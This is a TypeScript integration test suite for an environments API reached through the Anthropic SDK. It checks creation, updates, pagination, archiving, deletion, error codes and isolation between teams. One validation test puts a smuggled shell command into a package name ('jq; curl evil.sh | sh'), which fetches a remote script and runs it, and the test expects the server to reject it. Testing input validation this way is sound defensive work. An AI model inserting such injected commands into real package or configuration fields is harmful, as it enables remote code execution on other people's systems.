import Anthropic from "@anthropic-ai/sdk";
import { BetaEnvironmentArchivedError, BetaInvalidConfigTypeChangeError } from "@anthropic-ai/sdk/resources/beta/environments";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openDatabase } from "@/lib/db/open-database";
import { newId } from "@/lib/ids";
import { createApiKey } from "@/lib/teams/api-keys/create-api-key";
import { createTeam } from "@/lib/teams/create-team";
import { startAppServer, type AppServer } from "@/tests/fixtures/app-server";
import { requirePostgres } from "@/tests/fixtures/postgres";
import { collect, failure, RFC3339, sdkClient, type TCall } from "@/tests/fixtures/sdk-client";

/**
 * The environment endpoints through the official SDK, unchanged, against the real server. Clients
 * keep the SDK's default retries (2) and count the requests they send, so a retried request shows.
 */
const NO_PACKAGES = { type: "packages", apt: [], cargo: [], gem: [], go: [], npm: [], pip: [] };

describe("environments through the official SDK", () => {
  let server: AppServer;
  let client: Anthropic;
  let calls: TCall[];

  beforeAll(async () => {
    server = await startAppServer();
    ({ client, calls } = sdkClient(server));
  });
  afterAll(async () => {
    await server?.stop();
  });

  it("creates environments with the default cloud config filled in, and reads them back", async () => {
    const env = await client.beta.environments.create({ name: "default" });
    expect(env).toEqual({
      id: expect.stringMatching(/^env_[0-9A-Z]{26}$/),
      type: "environment",
      name: "default",
      description: null,
      config: { type: "cloud", networking: { type: "unrestricted" }, packages: NO_PACKAGES },
      metadata: {},
      created_at: expect.stringMatching(RFC3339),
      updated_at: expect.stringMatching(RFC3339),
      archived_at: null,
    });
    expect(await client.beta.environments.retrieve(env.id)).toEqual(env);

    const limited = await client.beta.environments.create({
      name: "limited",
      description: "pip only",
      config: { type: "cloud", networking: { type: "limited", allowed_hosts: ["pypi.org"], allow_package_managers: true }, packages: { pip: ["requests==2.32.0"] } },
      metadata: { owner: "data" },
      scope: "organization",
    });
    expect(limited).toMatchObject({
      description: "pip only",
      config: {
        type: "cloud",
        networking: { type: "limited", allowed_hosts: ["pypi.org"], allow_mcp_servers: false, allow_package_managers: true },
        packages: { ...NO_PACKAGES, pip: ["requests==2.32.0"] },
      },
      metadata: { owner: "data" },
      scope: "organization",
    });
    expect((await client.beta.environments.create({ name: "mine", config: { type: "self_hosted" } })).config).toEqual({ type: "self_hosted" });
  });

  it("updates: omitted fields kept, config merged, metadata patched, type change refused", async () => {
    const env = await client.beta.environments.create({
      name: "before",
      description: "d",
      config: { type: "cloud", packages: { npm: ["left-pad"], apt: ["jq"] } },
      metadata: { a: "1", b: "2", c: "3" },
    });
    const updated = await client.beta.environments.update(env.id, { name: "after", description: null, config: { type: "cloud", packages: { apt: null } }, metadata: { a: null, b: "", d: "4" } });
    expect(updated).toMatchObject({
      id: env.id,
      name: "after",
      description: null,
      config: { type: "cloud", networking: { type: "unrestricted" }, packages: { ...NO_PACKAGES, npm: ["left-pad"] } },
      metadata: { c: "3", d: "4" },
      created_at: env.created_at,
    });
    expect(await client.beta.environments.update(env.id, { name: "after", metadata: { c: "3" } })).toEqual(updated);
    expect(await client.beta.environments.retrieve(env.id)).toEqual(updated);

    calls.length = 0;
    const change = await failure(client.beta.environments.update(env.id, { config: { type: "self_hosted" } }));
    expect(change).toBeInstanceOf(BetaInvalidConfigTypeChangeError);
    expect(change.status).toBe(400);
    expect(change.errorCode).toBe("invalid_config_type_change");
    expect(calls).toHaveLength(1);
    const own = await client.beta.environments.create({ name: "own", config: { type: "self_hosted" } });
    expect(await failure(client.beta.environments.update(own.id, { config: { type: "cloud" } }))).toBeInstanceOf(BetaInvalidConfigTypeChangeError);
    expect((await client.beta.environments.retrieve(env.id)).config.type).toBe("cloud");
  });

  it("refuses bad requests with a 400 naming the field", async () => {
    const cases: Array<[() => Promise<unknown>, RegExp]> = [
      [() => client.beta.environments.create({} as never), /^name:/],
      [() => client.beta.environments.create({ name: "x", config: { type: "cloud", packages: { apt: ["jq; curl evil.sh | sh"] } } }), /^config\.packages\.apt\[0\]:/],
      [() => client.beta.environments.create({ name: "x", config: { type: "cloud", networking: { type: "limited" }, packages: { pip: ["x"] } } }), /allow_package_managers/],
      [() => client.beta.environments.create({ name: "x", config: { type: "docker" } as never }), /^config\.type:/],
      [() => client.beta.environments.create({ name: "x", region: "eu" } as never), /unknown field "region"/],
    ];
    for (const [request, message] of cases) {
      const error = await failure(request());
      expect(error).toBeInstanceOf(Anthropic.BadRequestError);
      expect(error.apiMessage).toMatch(message);
    }
    const metadata = await failure(client.beta.environments.create({ name: "x", metadata: { ["k".repeat(65)]: "v" } }));
    expect(metadata.errorCode).toBe("invalid_metadata");
  });

  it("takes the config.sandbox_provider extension: local by default and left out, vercel refused without credentials", async () => {
    const local = await client.beta.environments.create({ name: "local", config: { type: "cloud", sandbox_provider: "local" } as never });
    expect(local.config).toEqual({ type: "cloud", networking: { type: "unrestricted" }, packages: NO_PACKAGES });
    const bad = await failure(client.beta.environments.create({ name: "x", config: { type: "cloud", sandbox_provider: "docker" } as never }));
    expect(bad).toBeInstanceOf(Anthropic.BadRequestError);
    expect(bad.apiMessage).toMatch(/^config\.sandbox_provider: must be "local" or "vercel"/);
    // This server has no VERCEL_* variables: choosing vercel is refused when chosen, on create and update.
    const vercel = { name: "x", config: { type: "cloud", sandbox_provider: "vercel" } as never };
    for (const request of [() => client.beta.environments.create(vercel), () => client.beta.environments.update(local.id, vercel)]) {
      const error = await failure(request());
      expect(error).toBeInstanceOf(Anthropic.BadRequestError);
      expect(error.errorCode).toBe("sandbox_provider_unavailable");
      expect(error.apiMessage).toMatch(/^config\.sandbox_provider: the vercel sandbox provider is not configured on this server/);
    }
    expect((await client.beta.environments.retrieve(local.id)).config).toEqual(local.config);
  });

  it("lists newest first, page by page until next_page is null, archived ones only on request", async () => {
    const created = [];
    for (const name of ["e1", "e2", "e3"]) created.push(await client.beta.environments.create({ name }));
    calls.length = 0;
    const all = await collect(client.beta.environments.list({ limit: 2 }));
    expect(calls).toHaveLength(Math.ceil(all.length / 2));
    expect(new Set(all.map((e) => e.id)).size).toBe(all.length);
    expect(all.map((e) => e.id)).toEqual(all.map((e) => e.id).sort().reverse());
    expect(all.slice(0, 3).map((e) => e.id)).toEqual(created.map((e) => e.id).reverse());

    await client.beta.environments.archive(created[1]!.id);
    const visible = (await collect(client.beta.environments.list())).map((e) => e.id);
    expect(visible).toContain(created[0]!.id);
    expect(visible).not.toContain(created[1]!.id);
    expect((await collect(client.beta.environments.list({ include_archived: true }))).map((e) => e.id)).toContain(created[1]!.id);
  });

  it("archives: readable, refuses updates with environment_archived, archiving again changes nothing", async () => {
    const env = await client.beta.environments.create({ name: "old" });
    const archived = await client.beta.environments.archive(env.id);
    expect(archived).toMatchObject({ id: env.id, archived_at: expect.stringMatching(RFC3339) });
    expect(await client.beta.environments.retrieve(env.id)).toEqual(archived);
    expect(await client.beta.environments.archive(env.id)).toEqual(archived);
    const refused = await failure(client.beta.environments.update(env.id, { name: "new" }));
    expect(refused).toBeInstanceOf(BetaEnvironmentArchivedError);
    expect(refused.errorCode).toBe("environment_archived");
    expect((await client.beta.environments.retrieve(env.id)).name).toBe("old");
  });

  it("deletes, but not while a session uses the environment (409, not retried)", async () => {
    const env = await client.beta.environments.create({ name: "doomed" });
    expect(await client.beta.environments.delete(env.id)).toEqual({ id: env.id, type: "environment_deleted" });
    expect(await failure(client.beta.environments.retrieve(env.id))).toBeInstanceOf(Anthropic.NotFoundError);
    expect(await failure(client.beta.environments.delete(env.id))).toBeInstanceOf(Anthropic.NotFoundError);

    const used = await client.beta.environments.create({ name: "used" });
    const agent = await client.beta.agents.create({ name: "a", model: "claude-test" });
    const session = await client.beta.sessions.create({ agent: agent.id, environment_id: used.id });
    calls.length = 0;
    const refused = await failure(client.beta.environments.delete(used.id));
    expect(refused).toBeInstanceOf(Anthropic.ConflictError);
    expect(calls).toHaveLength(1);
    expect((await client.beta.environments.retrieve(used.id)).id).toBe(used.id);
    await client.beta.sessions.delete(session.id);
    expect(await client.beta.environments.delete(used.id)).toEqual({ id: used.id, type: "environment_deleted" });
  });

  it("answers 404 for unknown and malformed ids alike", async () => {
    for (const id of [newId("environment"), "env_nope", newId("agent")]) {
      for (const request of [
        () => client.beta.environments.retrieve(id),
        () => client.beta.environments.update(id, { name: "x" }),
        () => client.beta.environments.archive(id),
        () => client.beta.environments.delete(id),
      ]) {
        expect(await failure(request())).toBeInstanceOf(Anthropic.NotFoundError);
      }
    }
  });

  it("answers 401 without a valid API key", async () => {
    const { client: wrong } = sdkClient(server, "oma_not-a-real-key-0000000000");
    expect(await failure(wrong.beta.environments.list())).toBeInstanceOf(Anthropic.AuthenticationError);
    expect(await failure(wrong.beta.environments.create({ name: "x" }))).toBeInstanceOf(Anthropic.AuthenticationError);
    const missing = await fetch(`${server.url}/v1/environments`, { method: "POST", body: JSON.stringify({ name: "x" }), headers: { "content-type": "application/json" } });
    expect(missing.status).toBe(401);
    expect(await missing.json()).toMatchObject({ type: "error", error: { type: "authentication_error" } });
  });
});

const postgres = await requirePostgres("the environment team-isolation suite");

describe.runIf(postgres)("environments are invisible to other teams", () => {
  let server: AppServer;
  let teamA: Anthropic;
  let teamB: Anthropic;

  beforeAll(async () => {
    server = await startAppServer({ database: "postgres" });
    const db = await openDatabase({ kind: "postgres", url: server.databaseUrl!, poolSize: 2 }, { migrate: false });
    try {
      const team = await createTeam(db.prisma, { slug: "team-b", name: "Team B" });
      const key = await createApiKey(db.prisma, { teamId: team.id, name: "test" });
      teamB = sdkClient(server, key.key).client;
    } finally {
      await db.close();
    }
    teamA = sdkClient(server).client;
  });
  afterAll(async () => {
    await server?.stop();
  });

  it("answers 404 to another team on every environment endpoint, and leaves the environment untouched", async () => {
    const env = await teamA.beta.environments.create({ name: "A's environment", metadata: { k: "v" } });
    const own = await teamB.beta.environments.create({ name: "B's environment" });
    for (const request of [
      () => teamB.beta.environments.retrieve(env.id),
      () => teamB.beta.environments.update(env.id, { name: "taken", metadata: { k: null } }),
      () => teamB.beta.environments.archive(env.id),
      () => teamB.beta.environments.delete(env.id),
    ]) {
      expect(await failure(request())).toBeInstanceOf(Anthropic.NotFoundError);
    }
    expect((await collect(teamB.beta.environments.list({ include_archived: true }))).map((e) => e.id)).toEqual([own.id]);
    expect((await collect(teamA.beta.environments.list({ include_archived: true }))).map((e) => e.id)).toEqual([env.id]);
    expect(await teamA.beta.environments.retrieve(env.id)).toEqual(env);
    expect(await failure(teamA.beta.environments.delete(own.id))).toBeInstanceOf(Anthropic.NotFoundError);

    // team B cannot start a session in team A's environment either
    const agent = await teamB.beta.agents.create({ name: "B's agent", model: "claude-test" });
    expect(await failure(teamB.beta.sessions.create({ agent: agent.id, environment_id: env.id }))).toBeInstanceOf(Anthropic.NotFoundError);
  });
});

describe("environments on a server with Vercel credentials", () => {
  let server: AppServer;
  let client: Anthropic;

  beforeAll(async () => {
    // Placeholder credentials: nothing is sent to Vercel until a sandbox is provisioned.
    server = await startAppServer({ env: { VERCEL_TOKEN: "vercel-test-token-not-used", VERCEL_TEAM_ID: "team_test", VERCEL_PROJECT_ID: "prj_test" } });
    ({ client } = sdkClient(server));
  });
  afterAll(async () => {
    await server?.stop();
  });

  it("stores and returns sandbox_provider: vercel, keeps it through updates, and resets it with null", async () => {
    const env = await client.beta.environments.create({ name: "on vercel", config: { type: "cloud", sandbox_provider: "vercel" } as never });
    expect(env.config).toEqual({ type: "cloud", networking: { type: "unrestricted" }, packages: NO_PACKAGES, sandbox_provider: "vercel" });
    expect((await client.beta.environments.retrieve(env.id)).config).toEqual(env.config);
    const limited = await client.beta.environments.update(env.id, { config: { type: "cloud", networking: { type: "limited", allowed_hosts: ["pypi.org"] } } });
    expect(limited.config).toMatchObject({ sandbox_provider: "vercel", networking: { type: "limited", allowed_hosts: ["pypi.org"] } });
    const reset = await client.beta.environments.update(env.id, { config: { type: "cloud", sandbox_provider: null } as never });
    expect(reset.config).not.toHaveProperty("sandbox_provider");
    expect(server.output()).not.toContain("vercel-test-token-not-used");
  });
});
